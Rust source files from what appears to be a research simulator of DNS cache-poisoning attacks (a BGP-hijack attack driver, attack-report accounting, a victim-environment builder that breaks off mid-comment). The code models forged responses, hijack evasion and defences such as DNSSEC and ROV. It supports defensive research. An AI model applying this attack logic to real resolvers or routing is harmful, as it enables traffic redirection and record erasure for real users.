    /// resolver's AS is among them (computed by the caller with `bgp`).
    SamePrefix {
        /// Whether the resolver's AS routes to the attacker under this hijack.
        on_path: bool,
    },
}

/// What the attacker answers with once it has intercepted the query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HijackForgery {
    /// Plant an A record mapping the queried name to the malicious address —
    /// the classic redirection poisoning.
    PlantRecord,
    /// Answer with an empty authoritative NOERROR response, erasing the
    /// record the application depends on (e.g. the SPF/DMARC TXT policy, so
    /// the receiving mail server downgrades to "accept on none").
    EmptyAnswer,
}

/// Configuration for one HijackDNS attack run.
#[derive(Debug, Clone)]
pub struct HijackDnsConfig {
    /// The address to plant for the target name.
    pub malicious_addr: Ipv4Addr,
    /// What the spoofed response carries.
    pub forgery: HijackForgery,
    /// Hijack flavour.
    pub kind: HijackKind,
    /// Whether route-origin validation at the relevant ASes filters the
    /// hijacked announcement (true ⇒ the attack is stopped in the control
    /// plane; the RPKI-downgrade cross-layer attack exists to make this false).
    pub rov_blocks: bool,
    /// How the target query is triggered at the resolver.
    pub trigger: QueryTrigger,
    /// The name to poison.
    pub target_name: DomainName,
    /// Query type to trigger.
    pub qtype: RecordType,
    /// Withdraw the announcement immediately after poisoning (short-lived
    /// hijacks evade monitoring, Section 5.3.3).
    pub short_lived: bool,
}

impl HijackDnsConfig {
    /// A standard sub-prefix hijack poisoning `www.vict.im`.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        HijackDnsConfig {
            malicious_addr,
            forgery: HijackForgery::PlantRecord,
            kind: HijackKind::SubPrefix,
            rov_blocks: false,
            trigger: QueryTrigger::OpenResolver,
            target_name: "www.vict.im".parse().expect("valid name"),
            qtype: RecordType::A,
            short_lived: true,
        }
    }
}

/// The HijackDNS attack driver.
#[derive(Debug, Clone)]
pub struct HijackDnsAttack {
    /// Attack configuration.
    pub config: HijackDnsConfig,
}

impl HijackDnsAttack {
    /// Creates a driver.
    pub fn new(config: HijackDnsConfig) -> Self {
        HijackDnsAttack { config }
    }

    /// The TCP arm of the attack: the attacker node terminates the
    /// resolver's hijacked DNS-over-TCP connection and impersonates the
    /// nameserver in-stream.
    fn run_tcp_interception(
        &self,
        sim: &mut Simulator,
        env: &VictimEnv,
        mut report: AttackReport,
        hijacked_prefix: Prefix,
        start: SimTime,
        traffic_before: TrafficStats,
    ) -> AttackReport {
        let cfg = &self.config;
        let accepted_before = env.resolver(sim).stats.responses_accepted;
        if let Some(attacker) = sim.node_mut::<crate::attacker::AttackerNode>(env.attacker) {
            attacker.answer_dns_queries = true;
            attacker.malicious_a = cfg.malicious_addr;
            attacker.forge_empty_answers = cfg.forgery == HijackForgery::EmptyAnswer;
        }
        env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x5151);
        report.queries_triggered += 1;
        report.iterations = 1;
        sim.run_for(Duration::from_secs(2));
        let answered = env.attacker(sim).tcp_queries_answered;
        if answered > 0 {
            report.notes.push(format!(
                "terminated the resolver's DNS-over-TCP connection as the nameserver ({answered} queries answered)"
            ));
        }
        if cfg.short_lived {
            sim.clear_route_override(hijacked_prefix);
        }
        sim.run_for(Duration::from_secs(1));

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        report.success = match cfg.forgery {
            HijackForgery::PlantRecord => env.poisoned(sim, &cfg.target_name, cfg.malicious_addr),
            HijackForgery::EmptyAnswer => {
                let resolver = env.resolver(sim);
                let record_landed = resolver
                    .cache()
                    .peek(&cfg.target_name, cfg.qtype, sim.now())
                    .is_some_and(|e| !e.records.is_empty());
                resolver.stats.responses_accepted > accepted_before && !record_landed
            }
        };
        if !report.success {
            let resolver = env.resolver(sim);
            let reason = if resolver.stats.rejected_dnssec > 0 {
                "DNSSEC validation rejected the unsigned forgery"
            } else {
                "forged response not accepted"
            };
            report.failure = Some(FailureReason::RejectedByResolver(reason.into()));
        }
        report
    }

    /// Runs the attack against the environment.
    pub fn run(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let cfg = &self.config;
        let mut report = AttackReport::new(PoisonMethod::HijackDns, &cfg.target_name, cfg.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();

        // Control-plane preconditions.
        match cfg.kind {
            HijackKind::SubPrefix => {
                if !subprefix_hijackable(env.nameserver_prefix) {
                    return report.fail(FailureReason::PreconditionNotMet(format!(
                        "nameserver announcement {} is /24 or longer; sub-prefix hijack filtered",
                        env.nameserver_prefix
                    )));
                }
            }
            HijackKind::SamePrefix { on_path } => {
                if !on_path {
                    return report.fail(FailureReason::PreconditionNotMet(
                        "resolver's AS does not prefer the attacker's same-prefix announcement".into(),
                    ));
                }
            }
        }
        if cfg.rov_blocks || env.rov_enforced {
            return report.fail(FailureReason::PreconditionNotMet(
                "route origin validation filters the hijacked announcement".into(),
            ));
        }

        // Data plane: install the hijack (traffic for the nameserver's
        // address now reaches the attacker).
        let hijacked_prefix = match cfg.kind {
            HijackKind::SubPrefix => Prefix::new(env.nameserver_addr, MAX_ACCEPTED_PREFIX_LEN),
            HijackKind::SamePrefix { .. } => env.nameserver_prefix,
        };
        sim.set_route_override(hijacked_prefix, env.attacker);
        report.notes.push(format!("announced {hijacked_prefix} ({:?})", cfg.kind));

        // A resolver that queries upstream over TCP is *not* protected from
        // an interception attack: the hijacker receives the SYN, completes
        // the handshake as the nameserver (it sees every challenge value,
        // sequence numbers included) and answers the query in-stream.
        if env.resolver(sim).config().transport_policy == UpstreamTransport::TcpOnly {
            return self.run_tcp_interception(sim, env, report, hijacked_prefix, start, traffic_before);
        }

        // Trigger the query.
        env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x5151);
        report.queries_triggered += 1;
        report.iterations = 1;

        // Wait for the interception.
        let deadline = sim.now() + Duration::from_secs(5);
        let mut intercepted: Option<(UdpDatagram, Message)> = None;
        while sim.now() < deadline {
            if !sim.step() {
                break;
            }
            let attacker = env.attacker(sim);
            if let Some((obs, query)) = attacker
                .intercepted_queries()
                .into_iter()
                .find(|(_, q)| q.question().map(|qq| qq.name == cfg.target_name) == Some(true))
            {
                intercepted = Some((obs.datagram.clone(), query));
                break;
            }
        }
        let Some((query_dgram, query_msg)) = intercepted else {
            sim.clear_route_override(hijacked_prefix);
            return report.fail(FailureReason::BudgetExhausted);
        };
        report
            .notes
            .push(format!("intercepted query txid={:#06x} from port {}", query_msg.header.id, query_dgram.src_port));

        // Craft the spoofed response: echo TXID, exact question (0x20-safe)
        // and ports; answer with the malicious address (or nothing at all for
        // an erasure forgery). The hijacker cannot produce valid DNSSEC
        // signatures, so the response is unsigned.
        let accepted_before = env.resolver(sim).stats.responses_accepted;
        let mut response = Message::response_for(&query_msg);
        response.header.authoritative = true;
        let echoed_question = query_msg.question().cloned().expect("query has a question");
        if cfg.forgery == HijackForgery::PlantRecord {
            response.answers.push(ResourceRecord::new(
                echoed_question.name.clone(),
                3600,
                RData::A(cfg.malicious_addr),
            ));
        }
        let spoofed =
            UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, query_dgram.src_port, response.encode())
                .into_packet(0x6666, 64);
        sim.inject(env.attacker, spoofed);

        // Withdraw the announcement (short-lived hijack) and let the dust settle.
        if cfg.short_lived {
            sim.clear_route_override(hijacked_prefix);
        }
        sim.run_for(Duration::from_secs(1));

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        report.success = match cfg.forgery {
            HijackForgery::PlantRecord => env.poisoned(sim, &echoed_question.name, cfg.malicious_addr),
            // An erasure forgery leaves nothing to look up; it worked iff the
            // resolver accepted the empty response as the answer AND the
            // genuine records did not land anyway (a retry reaching the real
            // nameserver after the hijack is withdrawn must not count).
            HijackForgery::EmptyAnswer => {
                let resolver = env.resolver(sim);
                let record_landed = resolver
                    .cache()
                    .peek(&echoed_question.name, echoed_question.qtype, sim.now())
                    .is_some_and(|e| !e.records.is_empty());
                resolver.stats.responses_accepted > accepted_before && !record_landed
            }
        };
        if !report.success {
            let resolver = env.resolver(sim);
            let reason = if resolver.stats.rejected_dnssec > 0 {
                "DNSSEC validation rejected the unsigned forgery"
            } else {
                "forged response not accepted"
            };
            report.failure = Some(FailureReason::RejectedByResolver(reason.into()));
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::{addrs, VictimEnvConfig};

    fn target() -> DomainName {
        "www.vict.im".parse().unwrap()
    }

    #[test]
    fn subprefix_hijack_poisons_the_cache_with_one_query() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let attack = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER));
        let report = attack.run(&mut sim, &env);
        assert!(report.success, "hijack poisoning failed: {:?}", report);
        assert!(env.poisoned(&sim, &target(), addrs::ATTACKER));
        assert_eq!(report.queries_triggered, 1, "a single query suffices (hitrate 100%)");
        // Minimal traffic: well under a hundred packets (Table 6: ~2 packets
        // plus the trigger; our accounting includes the trigger query and the
        // relayed open-resolver answer).
        assert!(report.attacker_packets < 20, "attacker sent {} packets", report.attacker_packets);
        // The hijack was withdrawn.
        assert_eq!(sim.route_lookup(env.nameserver_addr), Some(env.nameserver));
    }

    #[test]
    fn fails_against_slash24_announcement() {
        let (mut sim, mut env) = VictimEnvConfig::default().build();
        env.nameserver_prefix = "123.0.0.0/24".parse().unwrap();
        let attack = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER));
        let report = attack.run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
        assert!(!env.poisoned(&sim, &target(), addrs::ATTACKER));
    }

    #[test]
    fn rov_blocks_the_hijack() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let mut cfg = HijackDnsConfig::new(addrs::ATTACKER);
        cfg.rov_blocks = true;
        let report = HijackDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn same_prefix_hijack_depends_on_path_preference() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let mut cfg = HijackDnsConfig::new(addrs::ATTACKER);
        cfg.kind = HijackKind::SamePrefix { on_path: false };
        let report = HijackDnsAttack::new(cfg.clone()).run(&mut sim, &env);
        assert!(!report.success);

        let (mut sim, env) = VictimEnvConfig::default().build();
        cfg.kind = HijackKind::SamePrefix { on_path: true };
        let report = HijackDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(report.success);
    }

    #[test]
    fn hijack_defeats_0x20_but_not_dnssec() {
        // 0x20: the attacker sees the cased query, so poisoning still works.
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver = env_cfg.resolver.with_0x20();
        let (mut sim, env) = env_cfg.build();
        let report = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(report.success, "seeing the query defeats 0x20");

        // DNSSEC + signed zone: the forged (unsigned) response is rejected.
        let env_cfg = VictimEnvConfig {
            zone_security: crate::env::ZoneSecurity::signed_nsec(),
            resolver: ResolverConfig::new(addrs::RESOLVER)
                .with_delegation("vict.im", vec![addrs::NAMESERVER], true)
                .with_dnssec_validation(),
            ..Default::default()
        };
        let (mut sim, env) = env_cfg.build();
        let report = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::RejectedByResolver(_))));
        assert_eq!(env.resolver(&sim).stats.rejected_dnssec, 1);
    }

    #[test]
    fn empty_answer_forgery_erases_the_record() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let mut cfg = HijackDnsConfig::new(addrs::ATTACKER);
        cfg.forgery = HijackForgery::EmptyAnswer;
        let report = HijackDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(report.success, "the resolver accepted the empty answer: {:?}", report);
        // Nothing poisoned, nothing cached: the record is simply gone.
        assert!(!env.poisoned(&sim, &target(), addrs::ATTACKER));
        assert!(env.resolver(&sim).cache().cached_a(&target(), sim.now()).is_none());
    }

    #[test]
    fn empty_answer_forgery_is_rejected_by_a_validating_resolver() {
        // RFC 4035: an empty answer from a signed zone needs authenticated
        // denial of existence, which an off-path forger cannot produce — so
        // DNSSEC stops erasure forgeries just like record injection.
        let env_cfg = VictimEnvConfig {
            zone_security: crate::env::ZoneSecurity::signed_nsec(),
            resolver: ResolverConfig::new(addrs::RESOLVER)
                .with_delegation("vict.im", vec![addrs::NAMESERVER], true)
                .with_dnssec_validation(),
            ..Default::default()
        };
        let (mut sim, env) = env_cfg.build();
        let mut cfg = HijackDnsConfig::new(addrs::ATTACKER);
        cfg.forgery = HijackForgery::EmptyAnswer;
        let report = HijackDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::RejectedByResolver(_))));
        assert!(env.resolver(&sim).stats.rejected_dnssec >= 1);
    }

    #[test]
    fn hijack_intercepts_dns_over_tcp_resolvers_too() {
        // DNS over TCP is no defence against an *interception* attack: the
        // hijacker receives the SYN, completes the handshake as the
        // nameserver and answers in-stream.
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver = env_cfg.resolver.with_transport(UpstreamTransport::TcpOnly);
        let (mut sim, env) = env_cfg.build();
        let report = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(report.success, "TCP hijack interception failed: {report:?}");
        assert!(env.poisoned(&sim, &target(), addrs::ATTACKER));
        assert!(env.attacker(&sim).tcp_queries_answered >= 1);
        assert_eq!(report.queries_triggered, 1);
        // The hijack was withdrawn.
        assert_eq!(sim.route_lookup(env.nameserver_addr), Some(env.nameserver));
    }

    #[test]
    fn dns_over_tcp_hijack_still_blocked_by_dnssec() {
        // The hijacker terminates TCP fine, but it still cannot sign.
        let env_cfg = VictimEnvConfig {
            zone_security: crate::env::ZoneSecurity::signed_nsec(),
            resolver: ResolverConfig::new(addrs::RESOLVER)
                .with_delegation("vict.im", vec![addrs::NAMESERVER], true)
                .with_dnssec_validation()
                .with_transport(UpstreamTransport::TcpOnly),
            ..Default::default()
        };
        let (mut sim, env) = env_cfg.build();
        let report = HijackDnsAttack::new(HijackDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::RejectedByResolver(_))));
        assert!(env.resolver(&sim).stats.rejected_dnssec >= 1);
    }

    #[test]
    fn internal_client_trigger_also_works() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let mut cfg = HijackDnsConfig::new(addrs::ATTACKER);
        cfg.trigger = QueryTrigger::InternalClient;
        let report = HijackDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(report.success);
    }
}
