//! Attack reports and the accounting behind the paper's Table 6
//! (effectiveness: hit rate, queries needed, total traffic; stealthiness).

use dns::prelude::DomainName;
use netsim::prelude::{Duration, TrafficStats};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// The three off-path cache-poisoning methodologies of Section 3.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum PoisonMethod {
    /// Intercepting DNS packets with a BGP prefix hijack (Section 3.1).
    HijackDns,
    /// Guessing the source port via the ICMP global rate-limit side channel,
    /// then brute-forcing the TXID (Section 3.2).
    SadDns,
    /// Injecting a spoofed second fragment into the defragmentation cache
    /// (Section 3.3).
    FragDns,
    /// Serving an unsigned forgery to a validator that has no chain of
    /// trust into the zone: a signed-but-unanchored deployment validates as
    /// `Insecure` and accepts everything the baseline does.
    DowngradeToInsecure,
    /// Replaying a genuine signed NSEC3 opt-out span alongside unsigned
    /// forged records: RFC 5155 opt-out spans cannot prove the forgery is
    /// absent, so the validator admits it as `Insecure`.
    Nsec3OptOutAbuse,
    /// Signing a forgery with a retired-but-still-published ZSK during the
    /// RFC 6781 rollover retirement window.
    RolloverForgery,
    /// Enumerating the zone by following NSEC `next` pointers — a
    /// confidentiality attack on the denial chain itself.
    ZoneWalking,
}

impl PoisonMethod {
    /// The paper's three off-path methodologies, in the order its tables
    /// list them. The DNSSEC-specific vectors are deliberately *not* here —
    /// they only make sense against signed zones and are evaluated by the
    /// dedicated DNSSEC matrix over [`PoisonMethod::dnssec_suite`].
    pub fn all() -> [PoisonMethod; 3] {
        [PoisonMethod::HijackDns, PoisonMethod::SadDns, PoisonMethod::FragDns]
    }

    /// The four attacks against DNSSEC deployments themselves, in matrix
    /// row order.
    pub fn dnssec_suite() -> [PoisonMethod; 4] {
        [
            PoisonMethod::DowngradeToInsecure,
            PoisonMethod::Nsec3OptOutAbuse,
            PoisonMethod::RolloverForgery,
            PoisonMethod::ZoneWalking,
        ]
    }

    /// Human-readable name as used in the paper.
    pub fn name(&self) -> &'static str {
        match self {
            PoisonMethod::HijackDns => "HijackDNS",
            PoisonMethod::SadDns => "SadDNS",
            PoisonMethod::FragDns => "FragDNS",
            PoisonMethod::DowngradeToInsecure => "DowngradeToInsecure",
            PoisonMethod::Nsec3OptOutAbuse => "Nsec3OptOutAbuse",
            PoisonMethod::RolloverForgery => "RolloverForgery",
            PoisonMethod::ZoneWalking => "ZoneWalking",
        }
    }

    /// Snake-case slug used as the metric-name segment for this method
    /// (`attacks.<slug>.*` in telemetry snapshots).
    pub fn slug(&self) -> &'static str {
        match self {
            PoisonMethod::HijackDns => "hijackdns",
            PoisonMethod::SadDns => "saddns",
            PoisonMethod::FragDns => "fragdns",
            PoisonMethod::DowngradeToInsecure => "downgrade_to_insecure",
            PoisonMethod::Nsec3OptOutAbuse => "nsec3_optout_abuse",
            PoisonMethod::RolloverForgery => "rollover_forgery",
            PoisonMethod::ZoneWalking => "zone_walking",
        }
    }
}

impl std::fmt::Display for PoisonMethod {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Visibility class of a method (Table 6, "Stealthiness").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Stealth {
    /// Control-plane manipulation visible in the global routing table
    /// (sub-prefix hijack).
    VeryVisible,
    /// Control-plane manipulation visible only to ASes that accept it
    /// (same-prefix hijack).
    Visible,
    /// Data-plane only, but a local packet flood may be noticed (SadDNS,
    /// FragDNS against random IPIDs).
    StealthyButLocallyDetectable,
    /// Data-plane only with a handful of packets (FragDNS against a global
    /// IPID counter).
    VeryStealthy,
}

/// Why an attack attempt failed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum FailureReason {
    /// A structural precondition does not hold (e.g. /24 announcement, no
    /// global ICMP limit, fragments filtered, response too small).
    PreconditionNotMet(String),
    /// The attack ran but the race/guess was lost within the allotted budget.
    BudgetExhausted,
    /// The resolver's defences rejected the forgery (0x20, DNSSEC, ...).
    RejectedByResolver(String),
}

/// The result of one attack run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackReport {
    /// The methodology used.
    pub method: PoisonMethod,
    /// Whether the victim resolver's cache ended up poisoned.
    pub success: bool,
    /// Why the attack failed, when it did.
    pub failure: Option<FailureReason>,
    /// Name the attacker tried to poison.
    pub target_name: String,
    /// The address the attacker tried to plant.
    pub malicious_addr: Ipv4Addr,
    /// Wall-clock (simulated) duration of the attack.
    pub duration: Duration,
    /// Number of attack iterations (query-trigger rounds).
    pub iterations: u64,
    /// Packets the attacker sent.
    pub attacker_packets: u64,
    /// Bytes the attacker sent.
    pub attacker_bytes: u64,
    /// Queries the attacker had to trigger at the victim resolver.
    pub queries_triggered: u64,
    /// Port-scan probes the attacker sent (SadDNS; zero for other methods).
    pub probes_sent: u64,
    /// Scan windows in which an open port was detected (SadDNS).
    pub windows_hit: u64,
    /// Spoofed responses sprayed at guessed TXIDs (SadDNS spray size).
    pub spray_responses: u64,
    /// Free-form notes (e.g. "IPID predicted exactly", "port found after 3 batches").
    pub notes: Vec<String>,
}

impl AttackReport {
    /// A report skeleton for a method/target.
    pub fn new(method: PoisonMethod, target_name: &DomainName, malicious_addr: Ipv4Addr) -> Self {
        AttackReport {
            method,
            success: false,
            failure: None,
            target_name: target_name.to_string(),
            malicious_addr,
            duration: Duration::ZERO,
            iterations: 0,
            attacker_packets: 0,
            attacker_bytes: 0,
            queries_triggered: 0,
            probes_sent: 0,
            windows_hit: 0,
            spray_responses: 0,
            notes: Vec::new(),
        }
    }

    /// Marks the report as failed with a reason.
    pub fn fail(mut self, reason: FailureReason) -> Self {
        self.success = false;
        self.failure = Some(reason);
        self
    }

    /// Records the attacker's traffic counters (delta between two snapshots).
    pub fn record_traffic(&mut self, before: &TrafficStats, after: &TrafficStats) {
        self.attacker_packets += after.packets_sent.saturating_sub(before.packets_sent);
        self.attacker_bytes += after.bytes_sent.saturating_sub(before.bytes_sent);
    }

    /// The effective per-query hit rate of this run (successes per triggered
    /// query), used to fill Table 6's "Hitrate" column from repeated runs.
    pub fn hitrate(&self) -> f64 {
        if self.queries_triggered == 0 {
            0.0
        } else if self.success {
            1.0 / self.queries_triggered as f64
        } else {
            0.0
        }
    }
}

/// Aggregate over repeated attack runs (the paper reports averages over many
/// SadDNS runs: 471 s, 497 iterations, ~987 K packets).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct AttackAggregate {
    /// Number of runs.
    pub runs: u64,
    /// Number of successful runs.
    pub successes: u64,
    /// Total simulated duration across runs.
    pub total_duration: Duration,
    /// Total iterations across runs.
    pub total_iterations: u64,
    /// Total attacker packets across runs.
    pub total_packets: u64,
    /// Total attacker bytes across runs.
    pub total_bytes: u64,
    /// Total queries triggered across runs.
    pub total_queries: u64,
    /// Total port-scan probes across runs.
    pub total_probes: u64,
    /// Total scan windows hit across runs.
    pub total_windows_hit: u64,
    /// Total sprayed responses across runs.
    pub total_spray_responses: u64,
}

impl AttackAggregate {
    /// Folds one report into the aggregate.
    pub fn add(&mut self, report: &AttackReport) {
        self.runs += 1;
        if report.success {
            self.successes += 1;
        }
        self.total_duration += report.duration;
        self.total_iterations += report.iterations;
        self.total_packets += report.attacker_packets;
        self.total_bytes += report.attacker_bytes;
        self.total_queries += report.queries_triggered;
        self.total_probes += report.probes_sent;
        self.total_windows_hit += report.windows_hit;
        self.total_spray_responses += report.spray_responses;
    }

    /// Merges another aggregate into this one. Pure addition, so the merge
    /// is commutative and associative — aggregates folded per shard by the
    /// campaign engine reduce to the same totals in any completion order.
    pub fn merge(&mut self, other: AttackAggregate) {
        self.runs += other.runs;
        self.successes += other.successes;
        self.total_duration += other.total_duration;
        self.total_iterations += other.total_iterations;
        self.total_packets += other.total_packets;
        self.total_bytes += other.total_bytes;
        self.total_queries += other.total_queries;
        self.total_probes += other.total_probes;
        self.total_windows_hit += other.total_windows_hit;
        self.total_spray_responses += other.total_spray_responses;
    }

    /// Exports the aggregate into a telemetry snapshot under
    /// `attacks.<slug>.*` for the given method. Pure counters only, so the
    /// export commutes with [`AttackAggregate::merge`]: exporting a merged
    /// aggregate equals merging exported snapshots.
    pub fn export_metrics(&self, method: PoisonMethod, m: &mut telemetry::MetricsSnapshot) {
        let slug = method.slug();
        m.incr(&format!("attacks.{slug}.runs"), self.runs);
        m.incr(&format!("attacks.{slug}.successes"), self.successes);
        m.incr(&format!("attacks.{slug}.iterations"), self.total_iterations);
        m.incr(&format!("attacks.{slug}.packets"), self.total_packets);
        m.incr(&format!("attacks.{slug}.bytes"), self.total_bytes);
        m.incr(&format!("attacks.{slug}.queries_triggered"), self.total_queries);
        m.incr(&format!("attacks.{slug}.probes_sent"), self.total_probes);
        m.incr(&format!("attacks.{slug}.windows_hit"), self.total_windows_hit);
        m.incr(&format!("attacks.{slug}.spray_responses"), self.total_spray_responses);
        m.incr(&format!("attacks.{slug}.duration_ns_total"), self.total_duration.as_nanos());
    }

    /// Success rate over runs.
    pub fn success_rate(&self) -> f64 {
        if self.runs == 0 {
            0.0
        } else {
            self.successes as f64 / self.runs as f64
        }
    }

    /// Average number of queries a successful poisoning required (Table 6
    /// "Queries needed" = 1 / hitrate).
    pub fn avg_queries_per_success(&self) -> f64 {
        if self.successes == 0 {
            f64::INFINITY
        } else {
            self.total_queries as f64 / self.successes as f64
        }
    }

    /// The hit rate: successes per triggered query.
    pub fn hitrate(&self) -> f64 {
        if self.total_queries == 0 {
            0.0
        } else {
            self.successes as f64 / self.total_queries as f64
        }
    }

    /// Average packets per run.
    pub fn avg_packets(&self) -> f64 {
        if self.runs == 0 {
            0.0
        } else {
            self.total_packets as f64 / self.runs as f64
        }
    }

    /// Average duration per run in seconds.
    pub fn avg_duration_secs(&self) -> f64 {
        if self.runs == 0 {
            0.0
        } else {
            self.total_duration.as_secs_f64() / self.runs as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name() -> DomainName {
        "vict.im".parse().unwrap()
    }

    #[test]
    fn report_lifecycle() {
        let mut r = AttackReport::new(PoisonMethod::FragDns, &name(), "6.6.6.6".parse().unwrap());
        assert!(!r.success);
        r.queries_triggered = 5;
        r.success = true;
        assert!((r.hitrate() - 0.2).abs() < 1e-12);
        let before = TrafficStats::default();
        let after = TrafficStats { packets_sent: 100, bytes_sent: 9000, ..Default::default() };
        r.record_traffic(&before, &after);
        assert_eq!(r.attacker_packets, 100);
        assert_eq!(r.attacker_bytes, 9000);
    }

    #[test]
    fn failed_report() {
        let r = AttackReport::new(PoisonMethod::SadDns, &name(), "6.6.6.6".parse().unwrap())
            .fail(FailureReason::PreconditionNotMet("per-destination ICMP limit".into()));
        assert!(!r.success);
        assert!(matches!(r.failure, Some(FailureReason::PreconditionNotMet(_))));
        assert_eq!(r.hitrate(), 0.0);
    }

    #[test]
    fn aggregate_statistics() {
        let mut agg = AttackAggregate::default();
        for i in 0..10 {
            let mut r = AttackReport::new(PoisonMethod::SadDns, &name(), "6.6.6.6".parse().unwrap());
            r.queries_triggered = 100;
            r.attacker_packets = 1000;
            r.duration = Duration::from_secs(50);
            r.success = i < 5;
            agg.add(&r);
        }
        assert_eq!(agg.runs, 10);
        assert_eq!(agg.successes, 5);
        assert!((agg.success_rate() - 0.5).abs() < 1e-12);
        assert!((agg.avg_queries_per_success() - 200.0).abs() < 1e-12);
        assert!((agg.hitrate() - 0.005).abs() < 1e-12);
        assert!((agg.avg_packets() - 1000.0).abs() < 1e-12);
        assert!((agg.avg_duration_secs() - 50.0).abs() < 1e-9);
    }

    #[test]
    fn method_names() {
        assert_eq!(PoisonMethod::HijackDns.name(), "HijackDNS");
        assert_eq!(PoisonMethod::all().len(), 3);
        assert_eq!(format!("{}", PoisonMethod::FragDns), "FragDNS");
        assert_eq!(PoisonMethod::SadDns.slug(), "saddns");
        assert_eq!(PoisonMethod::Nsec3OptOutAbuse.slug(), "nsec3_optout_abuse");
    }

    #[test]
    fn export_commutes_with_merge() {
        let mut r1 = AttackReport::new(PoisonMethod::SadDns, &name(), "6.6.6.6".parse().unwrap());
        r1.probes_sent = 100;
        r1.windows_hit = 2;
        r1.spray_responses = 4096;
        r1.success = true;
        let mut r2 = AttackReport::new(PoisonMethod::SadDns, &name(), "6.6.6.6".parse().unwrap());
        r2.probes_sent = 50;
        r2.duration = Duration::from_secs(3);

        let mut shard_a = AttackAggregate::default();
        shard_a.add(&r1);
        let mut shard_b = AttackAggregate::default();
        shard_b.add(&r2);

        // Export-then-merge equals merge-then-export.
        let mut merged_first = shard_a.clone();
        merged_first.merge(shard_b.clone());
        let mut m1 = telemetry::MetricsSnapshot::new();
        merged_first.export_metrics(PoisonMethod::SadDns, &mut m1);

        let mut m2 = telemetry::MetricsSnapshot::new();
        shard_a.export_metrics(PoisonMethod::SadDns, &mut m2);
        let mut m2b = telemetry::MetricsSnapshot::new();
        shard_b.export_metrics(PoisonMethod::SadDns, &mut m2b);
        m2.merge(&m2b);

        assert_eq!(m1, m2);
        assert_eq!(m1.counter("attacks.saddns.probes_sent"), 150);
        assert_eq!(m1.counter("attacks.saddns.windows_hit"), 2);
        assert_eq!(m1.counter("attacks.saddns.spray_responses"), 4096);
        assert_eq!(m1.counter("attacks.saddns.runs"), 2);
        assert_eq!(m1.counter("attacks.saddns.successes"), 1);
    }
}
