//! The standard victim environment the attack drivers operate on.
//!
//! Mirrors the paper's experimental setup (Section 3, "Setup"): a victim AS
//! with a /22 prefix hosting the recursive resolver and a client service, a
//! target domain (`vict.im`) served by a nameserver in another AS, and an
//! attacker host in a third AS that does not filter spoofed packets. The
//! builder exposes the configuration knobs the measurement campaigns vary
//! (resolver defences, nameserver properties), so the same environment type
//! is reused by the attack drivers, the `apps` crate, the `xlayer-core`
//! scenarios, the examples and the benchmarks.

use dns::prelude::*;
use netsim::prelude::*;
use std::net::Ipv4Addr;

use crate::attacker::AttackerNode;

/// Node handles and addresses of a constructed victim environment.
#[derive(Debug, Clone)]
pub struct VictimEnv {
    /// The victim recursive resolver.
    pub resolver: NodeId,
    /// Address of the resolver.
    pub resolver_addr: Ipv4Addr,
    /// The authoritative nameserver of the target domain.
    pub nameserver: NodeId,
    /// Address of the nameserver.
    pub nameserver_addr: Ipv4Addr,
    /// The BGP announcement covering the nameserver's address.
    pub nameserver_prefix: Prefix,
    /// The BGP announcement covering the resolver's address.
    pub resolver_prefix: Prefix,
    /// The attacker host.
    pub attacker: NodeId,
    /// Address of the attacker.
    pub attacker_addr: Ipv4Addr,
    /// A benign client inside the victim network (used to trigger queries).
    pub client: NodeId,
    /// Address of the client.
    pub client_addr: Ipv4Addr,
    /// The domain under attack.
    pub target_name: DomainName,
    /// EDNS buffer size the resolver advertises (relevant to FragDNS).
    pub resolver_edns_size: u16,
    /// Whether route-origin validation filters hijacked announcements on the
